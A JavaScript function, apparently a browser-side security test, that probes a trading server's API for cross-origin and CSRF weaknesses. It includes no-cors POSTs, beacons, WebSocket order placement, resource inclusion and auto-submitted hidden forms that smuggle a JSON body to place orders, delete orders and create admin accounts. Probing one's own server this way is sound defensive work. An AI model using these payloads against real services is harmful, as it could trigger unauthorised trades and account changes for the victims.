// Everything that a page can try on a server: returns what it could read, a line each, and true where it was let in.
async ({ target, key, order }) => {
  const read = [];
  const tell = (how, text) => read.push(`${how}: ${String(text).slice(0, 300)}`);
  const soon = work => Promise.race([work, new Promise(done => setTimeout(done, 4000))]);
  const trying = [];
  const attempt = work => trying.push(soon(work().catch(() => {})));
  const bearer = { Authorization: `Bearer ${key}` };
  const body = JSON.stringify({ market: 'SOL/USDC', kind: 'buy', price: '50', quantity: '1' });
  const json = { 'Content-Type': 'application/json' };
  const ask = (how, path, options) => attempt(async () => {
    const answer = await fetch(target + path, options);
    if (answer.type !== 'opaque') tell(`fetch ${how} ${path}`, `${answer.status} ${await answer.text()}`);
  });

  for (const path of ['/', '/health', '/openapi/v1.json', '/api/v1/orders', '/api/v1/balances', '/api/v1/depth?market=SOL/USDC',
    '/api/v1/instruments', '/api/v1/prices', '/api/v1/keys']) {
    ask('plain', path);
    ask('credentials', path, { credentials: 'include' });
    ask('no-cors', path, { mode: 'no-cors', credentials: 'include' });
    ask('key', path, { headers: bearer });
    ask('key and credentials', path, { headers: bearer, credentials: 'include' });
  }

  const form = new FormData();
  form.append('market', 'SOL/USDC');
  const bodies = {
    'text/plain': body, form: new URLSearchParams({ market: 'SOL/USDC', kind: 'buy', price: '50', quantity: '1' }), multipart: form,
    blob: new Blob([body], { type: 'text/plain' }), 'no type': new Blob([body]),
  };
  const changes = [['POST', '/api/v1/order'], ['POST', '/api/v1/admin/accounts'], ['DELETE', `/api/v1/order?market=SOL/USDC&order_id=${order}`],
    ['DELETE', '/api/v1/orders'], ['PATCH', '/api/v1/order']];
  for (const [method, path] of changes) {
    for (const [how, content] of Object.entries(bodies)) {
      ask(`${method} ${how}`, path, { method, body: content });
      ask(`${method} ${how} key`, path, { method, body: content, headers: bearer, credentials: 'include' });
      if (method === 'POST') ask(`no-cors ${how}`, path, { method, body: content, mode: 'no-cors', headers: bearer, keepalive: true });
    }
    ask(`${method} json`, path, { method, body, headers: { ...json, ...bearer } });
    ask(`${method} json and credentials`, path, { method, body, headers: { ...json, ...bearer }, credentials: 'include' });
    ask(`${method} nothing`, path, { method, headers: bearer });
  }

  navigator.sendBeacon?.(`${target}/api/v1/order`, new Blob([body], { type: 'text/plain' }));
  for (const method of ['GET', 'POST']) {
    attempt(() => new Promise(done => {
      const request = new XMLHttpRequest();
      request.open(method, `${target}/api/v1/order${method === 'GET' ? 's' : ''}`);
      request.setRequestHeader('Authorization', bearer.Authorization);
      request.setRequestHeader('Content-Type', 'application/json');
      request.onload = () => done(tell(`xhr ${method}`, `${request.status} ${request.responseText}`));
      request.onerror = done;
      request.send(method === 'GET' ? null : body);
    }));
  }

  for (const path of ['/ws', '/ws/feeds', '/ws/markets']) {
    attempt(() => new Promise(done => {
      const socket = new WebSocket(target.replace('http', 'ws') + path);
      socket.onopen = () => {
        tell(`socket ${path}`, 'open');
        if (path !== '/ws') return;
        socket.send(JSON.stringify({ op: 'auth', key }));
        socket.send(JSON.stringify({ op: 'order.place', id: 1, order: JSON.parse(body) }));
      };
      socket.onmessage = message => tell(`socket ${path}`, message.data);
      socket.onerror = socket.onclose = done;
      setTimeout(() => done(socket.close()), 3000);
    }));
  }

  attempt(() => new Promise(done => {
    const source = new EventSource(`${target}/api/v1/orders`);
    source.onopen = () => done(tell('event source', 'open'));
    source.onerror = () => done(source.close());
  }));

  const place = document.body ?? document.documentElement;
  const put = (tag, fields, look) => attempt(() => new Promise(done => {
    const element = Object.assign(document.createElement(tag), fields);
    element.onload = element.onloadeddata = () => done(look(element));
    element.onerror = done;
    place.append(element);
  }));
  const shows = element => tell(element.tagName, 'loaded');
  for (const path of ['/api/v1/instruments', '/api/v1/depth?market=SOL/USDC', '/favicon.svg', '/health']) {
    put('script', { src: target + path }, shows);
    put('script', { src: target + path, type: 'module' }, shows);
    put('img', { src: target + path }, shows);
    put('img', { src: target + path, crossOrigin: 'use-credentials' }, shows);
    put('link', { href: target + path, rel: 'stylesheet' }, shows);
    put('video', { src: target + path }, shows);
    put('object', { data: target + path }, element => element.contentDocument && tell('object', element.contentDocument.body?.innerText));
    put('iframe', { src: target + path }, element => element.contentDocument && tell('iframe', element.contentDocument.body?.innerText));
  }

  for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded']) {
    for (const path of ['/api/v1/order', '/api/v1/orders', '/api/v1/admin/accounts']) {
      for (const method of ['post', 'get']) {
        const name = `frame${place.childElementCount}`;
        put('iframe', { name }, () => {});
        const sent = Object.assign(document.createElement('form'), { method, enctype, action: target + path, target: name });
        const field = Object.assign(document.createElement('input'), { type: 'hidden', name: body.slice(0, -1) + ',"x":"', value: '"}' });
        sent.append(field);
        place.append(sent);
        sent.submit();
      }
    }
  }

  await Promise.all(trying);
  await new Promise(done => setTimeout(done, 300));
  for (const frame of document.querySelectorAll('iframe')) {
    try {
      const text = frame.contentDocument?.body?.innerText;
      if (text) tell('frame', text);
    } catch { /* Another origin's. */ }
  }

  return read;
}
